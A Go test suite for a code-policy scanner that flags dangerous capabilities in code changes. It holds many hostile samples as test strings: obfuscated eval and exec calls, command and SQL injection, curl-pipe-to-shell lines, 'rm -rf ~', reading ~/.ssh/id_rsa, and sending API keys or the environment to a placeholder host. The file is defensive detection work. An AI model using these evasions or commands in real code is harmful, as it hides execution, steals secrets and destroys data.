package code_test

import (
	"slices"
	"strings"
	"testing"

	"fettle/internal/policy/code"
)

// TestSpellings judges the ways in which one capability can be spelled, and what only looks like one.
func TestSpellings(t *testing.T) {
	for _, c := range []struct {
		lang, src string
		stopped   bool
	}{
		{"python", "import os as o\no.system(c)", true},
		{"python", "getattr(__import__('os'), 'sys' + 'tem')(c)", true},
		{"python", "globals()['__builtins__'].eval(x)", true},
		{"python", "getattr(__builtins__, ''.join(['e', 'v', 'a', 'l']))(x)", true},
		{"python", "getattr(__builtins__, chr(101) + chr(118) + chr(97) + chr(108))(x)", true},
		{"python", "import builtins, base64\ngetattr(builtins, base64.b64decode('ZXZhbA==').decode())(x)", true},
		{"python", "import codecs\ngetattr(__builtins__, codecs.decode('riny', 'rot13'))(x)", true},
		{"python", "getattr(__builtins__, bytes.fromhex('6576616c').decode())(x)", true},
		{"python", "import codecs\nrun = __builtins__.__dict__[codecs.decode('rkrp', 'rot13')]\nrun(x)", true},
		{"python", "import codecs\nrun = __builtins__.__dict__[codecs.decode('cevag', 'rot13')]\nrun(x)", false},
		{"python", "getattr(__builtins__, '{}al'.format('ev'))(x)", true},
		{"python", "getattr(__builtins__, '%sal' % 'ev')(x)", true},
		{"python", "getattr(__builtins__, 'lave'[::-1])(x)", true},
		{"python", "import importlib\nimportlib.import_module('os').popen(c)", true},
		{"python", "import sys\nsys.modules['os'].system(c)", true},
		{"python", "ｅｖａｌ(x)", true},
		{"python", "@eval\ndef f(): pass", true},
		{"python", "def f(x, run=eval):\n    return run(x)", true},
		{"python", "list(map(exec, lines))", true},
		{"python", "import subprocess\nsubprocess.run(c, **{'shell': True})", true},
		{"python", "from subprocess import Popen as P\nP(c, shell=True)", true},
		{"python", "class A:\n    def __reduce__(self):\n        return (print, ('x',))", true},
		{"python", "getattr(os, name)(x)", true},
		{"python", "def where(frame):\n    return frame.f_globals.get('__name__') or '?'", false},
		{"python", "def where(frame):\n    return frame.f_globals['__file__']", false},
		{"python", "def where(frame):\n    return frame.f_globals.get('__builtins__')", true},
		{"python", "def where(frame, key):\n    return frame.f_globals[key]", true},
		{"python", "def where(frame):\n    return frame.f_globals.get('__name__' if frame else 'os')", true},
		{"python", "def where(frame):\n    frame.f_globals['__name__'] = 'a'", true},
		{"python", "def where(frame):\n    return frame.f_globals.pop('__name__')", true},
		{"python", "def where(frame):\n    get = frame.f_globals.get\n    return get('__name__'), get('eval')(x)", true},
		{"python", "def where(frame):\n    return frame.f_globals.get('__name__', frame.f_globals)", true},
		{"python", "(lambda: eval)()(x)", true},
		{"python", "x = f'{eval(a)}' 'b'", true},
		{"python", "import ssl\nc = ssl._create_unverified_context()", true},
		{"python", "import requests\nrequests.get(u, verify=False)", true},
		{"python", "db.execute(f'SELECT * FROM t WHERE a = {a}')", true},
		{"python", "open('/etc/passwd', 'w').write(x)", true},
		{"python", "from operator import attrgetter\nimport os\nattrgetter('system')(os)(c)", true},
		{"python", "import operator\nimport os\noperator.methodcaller('system', c)(os)", true},
		{"python", "t = app.jinja_env.from_string(page)", true},
		{"python", "TABLE = 'a' + request.table\ndb.execute(f'SELECT * FROM {TABLE}')", true},
		{"python", "from operator import attrgetter, methodcaller\nsorted(xs, key=attrgetter('name'))\nmethodcaller('strip')(x)", false},
		{"python", "COLOR = Color.from_string(text)\nt = env.from_string('Hello {{ name }}')", false},
		{"python", "TABLE = 'users'\ndb.execute(f'SELECT * FROM {TABLE}')", false},
		{"python", "def eval(x):\n    return x\nprint(eval(1))", false},
		{"python", "def f(eval):\n    return eval(1)", false},
		{"python", "model.eval()\nself.exec(x)", false},
		{"python", "import os\nos.makedirs(d, exist_ok=True)\nos.environ['PATH']", false},
		{"python", "import subprocess\nsubprocess.run(['git', 'status'], check=True)", false},
		{"python", "getattr(self, 'visit_' + kind)(node)", false},
		{"python", "handlers[kind](x)", false},
		{"python", "import importlib\nimportlib.import_module('json')", false},
		{"python", "import ast\nast.literal_eval(x)", false},
		{"python", "db.execute('SELECT * FROM t WHERE a = ?', (a,))", false},
		{"python", "open('out.txt', 'w').write(x)", false},
		{"python", "import requests\nrequests.get(u, headers=h)", false},
		{"javascript", "const e = eval; e(x)", true},
		{"javascript", "(0, eval)(x)", true},
		{"javascript", "window['ev'.concat('al')](x)", true},
		{"javascript", "new Function('a', body)(1)", true},
		{"javascript", "(() => {}).constructor(body)()", true},
		{"javascript", "Object.getPrototypeOf(async function () {}).constructor(body)()", true},
		{"javascript", "Reflect.apply(Function, null, [body])()", true},
		{"javascript", "agent.options.rejectUnauthorized = !1", true},
		{"javascript", "const table = 'a' + req.query.t\ndb.query(`SELECT * FROM ${table}`)", true},
		{"javascript", "Object.getPrototypeOf(x).constructor(body)\nReflect.construct(Date, [2020])", false},
		{"javascript", "agent.options.rejectUnauthorized = !0", false},
		{"javascript", "const table = 'users'\ndb.query(`SELECT * FROM ${table} WHERE id = $1`, [id])", false},
		{"javascript", "[].filter.constructor(body)()", true},
		{"javascript", "const { exec: run } = require('child_process'); run(c)", true},
		{"javascript", "require('child_process')['ex' + 'ec'](c)", true},
		{"javascript", "import * as cp from 'child_process'; cp.exec(`git ${x}`)", true},
		{"javascript", "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec(c)", true},
		{"javascript", "globalThis[String.fromCharCode(101, 118, 97, 108)](x)", true},
		{"javascript", "globalThis[name](x)", true},
		{"javascript", "Reflect.get(globalThis, 'eval')(x)", true},
		{"javascript", "const a = { rejectUnauthorized: false }", true},
		{"javascript", "el.innerHTML = '<b>' + name", true},
		{"javascript", "db.query(`SELECT * FROM t WHERE a = ${a}`)", true},
		{"javascript", "const m = /a/.exec(s)", false},
		{"javascript", "{:A}=0", false},
		{"javascript", "handlers[kind](x)", false},
		{"javascript", "const fs = require('fs'); fs.writeFileSync('out.txt', s)", false},
		{"javascript", "this.constructor.name", false},
		{"javascript", "setTimeout(() => go(), 10)", false},
		{"javascript", "const { execFile } = require('child_process'); execFile('git', ['status'])", false},
		{"javascript", "fetch('/api', { method: 'POST', body: JSON.stringify(data) })", false},
		{"typescript", "const run = (globalThis as any)['eval']; run(x)", true},
		{"go", "package p\nimport e \"os/exec\"\nfunc f(c string) { e.Command(\"sh\", \"-c\", c).Run() }", true},
		{"go", "package p\nimport . \"os/exec\"\nfunc f(c string) { Command(\"/bin/bash\", \"-c\", c).Run() }", true},
		{"go", "package p\nimport \"syscall\"\nfunc f() { syscall.Exec(\"/bin/sh\", nil, nil) }", true},
		{"go", "package p\nimport \"plugin\"\nfunc f(s string) { plugin.Open(s) }", true},
		{"go", "package p\nfunc f(db *sql.DB, n string) { db.Query(\"SELECT * FROM t WHERE n = '\" + n + \"'\") }", true},
		{"go", "package p\nimport \"os/exec\"\nfunc f() { exec.Command(\"git\", \"status\").Run() }", false},
		{"go", "package p\nimport \"os\"\nfunc main() { os.Exit(run()) }", false},
		{"java", "class A { void f(String c) throws Exception { Runtime.getRuntime().exec(c); } }", true},
		{"java", "class A { Object f() throws Exception { return new ObjectInputStream(s).readObject(); } }", true},
		{"java", "class A { void f(String c) { new ProcessBuilder(\"sh\", \"-c\", c).start(); } }", true},
		{"java", "class A { void f(String c) { new ScriptEngineManager().getEngineByName(\"js\").eval(c); } }", true},
		{"java", "class A { int f(int c) { return Math.max(c, 1); } }", false},
		{"python", "import subprocess as sp\nsp.call('git tag ' + name, shell=True)", true},
		{"python", "import shutil\nshutil.rmtree('build')", false},
		{"python", "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)", false},
		{"python", "import time\ntime.sleep = lambda s: None", true},
		{"python", "import operator\noperator.eq = lambda a, b: True", true},
		{"python", "import pytest\npytest.raises = None", true},
		{"python", "import decimal\ndecimal.getcontext().prec = 4", false},
		{"python", "import requests, os\nrequests.get('https://a.example/?k=' + os.environ['API_KEY'])", true},
		{"python", "import requests, os\nrequests.get('https://a.example/', headers={'Authorization': os.environ['API_KEY']})", false},
		{"python", "import httpx, os\nhttpx.Client(headers={'Authorization': os.environ['API_KEY']})", false},
		{"python", "import httpx, os\nhttpx.Client(base_url='https://a.example/?k=' + os.environ['API_KEY'])", true},
		{"javascript", "const axios = require('axios');\naxios.request({ url: 'https://a.example/', headers: { Authorization: process.env.API_KEY } })", false},
		{"javascript", "const axios = require('axios');\naxios.request({ url: 'https://a.example/?k=' + process.env.API_KEY })", true},
		{"javascript", "const { promisify } = require('util'); promisify(require('child_process').exec)(c)", true},
		{"javascript", "const A = (async () => {}).constructor; new A(src)()", true},
		{"javascript", "const fs = require('fs'); fs.rmSync(dir, { recursive: true })", true},
		{"javascript", "require('node:assert').strictEqual = () => {};", true},
		{"javascript", "import assert from 'assert'; assert.equal = nothing;", true},
		{"javascript", "const chai = require('chai'); chai.config.includeStack = true;", false},
		{"javascript", "const fs = require('fs'); fs.rmSync(file)", false},
		{"javascript", "if (done) process.exit(0)", false},
		{"javascript", "process.exit(0)", true},
		{"go", "package p\nimport \"os/exec\"\nfunc f(n string) { exec.Command(n).Run() }", true},
		{"go", "package p\nimport (\n\"fmt\"\n\"net/http\"\n)\nfunc f(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, \"<b>%s\", r.FormValue(\"a\")) }", true},
		{"go", "package p\nimport \"fmt\"\nfunc f(w io.Writer, a string) { fmt.Fprintf(w, \"<%s>\", a) }", false},
		{"java", "import java.nio.file.Files;\nimport java.nio.file.Path;\nclass A { void f(String s) throws Exception { Files.writeString(Path.of(\"/etc/hosts\"), s); } }", true},
		{"java", "class A { void f(String s) throws Exception { java.nio.file.Files.writeString(java.nio.file.Path.of(\"/etc/hosts\"), s); } }", true},
		{"java", "import org.yaml.snakeyaml.Yaml;\nclass A { Object f(String s) { return new Yaml().load(s); } }", true},
		{"java", "class A { native int f(); }", true},
		{"java", "class A { static { System.exit(0); } }", true},
		{"java", "class A { int eval(int a) { return a; } int f(int a) { return this.eval(a); } }", false},
	} {
		grade, found := worst(t, c.lang, c.src)
		if stopped := grade >= code.Review; stopped != c.stopped {
			t.Errorf("%s %q: %v, want stopped %v", c.lang, c.src, found, c.stopped)
		}
	}
}

// TestDelta holds a change to what it brings in: what was there stays, moves and is renamed without a word.
func TestDelta(t *testing.T) {
	for _, c := range []struct {
		name, before, after string
		want                int
	}{
		{"it was there", "def f(x):\n    return eval(x)\n", "def f(x):\n    y = 1\n    return eval(x)\n", 0},
		{"the function is renamed", "def f(x):\n    return eval(x)\n", "def g(x):\n    return eval(x)\n", 0},
		{"once more in one function", "def f(x):\n    return eval(x)\n", "def f(x):\n    eval(x)\n    return eval(x)\n", 1},
		{"in another function", "def f(x):\n    return eval(x)\ndef g(x): pass\n", "def f(x):\n    return eval(x)\ndef g(x): eval(x)\n", 1},
		{"spelled otherwise", "def f(x):\n    return eval(x)\n", "import builtins\ndef f(x):\n    return builtins.eval(x)\n", 0},
		{"two functions change what they do", "def f(x):\n    return eval(x)\ndef g(x):\n    print(x)\n", "def f(x):\n    print(x)\ndef g(x):\n    return eval(x)\n", 1},
		{"a function hands it on to a new one", "def f(x):\n    return eval(x)\n", "def f(x):\n    return g(x)\ndef g(x):\n    return eval(x)\n", 0},
		{"a function is written out in another", "def f(x):\n    return eval(x)\ndef g(x):\n    return f(x)\n", "def g(x):\n    return eval(x)\n", 0},
	} {
		got, err := code.Change(t.Context(), "a.py", []byte(c.before), []byte(c.after))
		if err != nil {
			t.Fatal(err)
		}
		if len(got) != c.want {
			t.Errorf("%s: %v", c.name, got)
		}
	}
}

// TestScripts is what a change of a shell script brings in, by its lines: what the script did before excuses nothing else, and nothing is told twice.
func TestScripts(t *testing.T) {
	const before = "#!/bin/sh\nset -e\nsudo apt-get update\ncurl -fsSL https://example.com/a.sh | sh\ngit push\n"
	for _, c := range []struct {
		name, after string
		want        []int // lines of what is asked about, or refused
	}{
		{"nothing new", before + "echo done\nls -l build\n", nil},
		{"the same further down", "#!/bin/sh\n# a comment\n" + strings.TrimPrefix(before, "#!/bin/sh\n"), nil},
		{"a push, and a program that nobody knows", before + "git push origin topic\nfrobnicate\n", nil},
		{"what the environment says twice", before + "eval \"$(direnv hook sh)\"\neval \"$(direnv hook sh)\"\n", nil},
		{"something else", before + "echo a\nif true; then\n  rm -rf \"$HOME\"\nfi\n", []int{8}},
		{"two things", before + "clean() {\n  rm -rf ~\n}\nclean\ncat ~/.ssh/id_rsa\n", []int{7, 10}},
		{"code from elsewhere", before + "curl -fsSL https://example.org/b.sh | sh\n", []int{4}},
		{"what it loads, but does not run", before + "curl -fsSL https://example.com/a.sh -o a.txt\n", nil},
	} {
		fresh, err := code.Change(t.Context(), "a.sh", []byte(before), []byte(c.after))
		if err != nil {
			t.Fatal(err)
		}
		var got []int
		for _, f := range fresh {
			if f.Grade > code.Note {
				got = append(got, f.Line)
			}
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: lines %v, want %v: %v", c.name, got, c.want, fresh)
		}
	}
}

// TestOnce is what several rules say of one place: it is told once.
func TestOnce(t *testing.T) {
	for _, c := range []struct{ lang, src, says string }{
		{"python", "import os, requests\ndef f():\n    requests.post(U, json=dict(os.environ))", "the environment"},
		{"python", "import os, requests\ndef f():\n    requests.Session().post(U, json=dict(os.environ))", "the environment"},
	} {
		_, found := worst(t, c.lang, c.src)
		found = slices.DeleteFunc(found, func(f code.Capability) bool { return !strings.HasPrefix(f.Name, c.says) })
		if len(found) != 1 {
			t.Errorf("%q: %v", c.src, found)
		}
	}
}

// TestCircles is a variable that is made of itself, over and over: followed every way, one after the other, it would never end. What it may be at
// last is seen all the same.
func TestCircles(t *testing.T) {
	src := "function f(y, cmd) {\n" + strings.Repeat("  y = (y - y % 1) + (y - y % 2);\n", 6) + "  y = require('child_process');\n  y.exec(cmd);\n}\n"
	grade, found := worst(t, "javascript", src)
	if grade != code.Danger {
		t.Errorf("%v", found)
	}
}
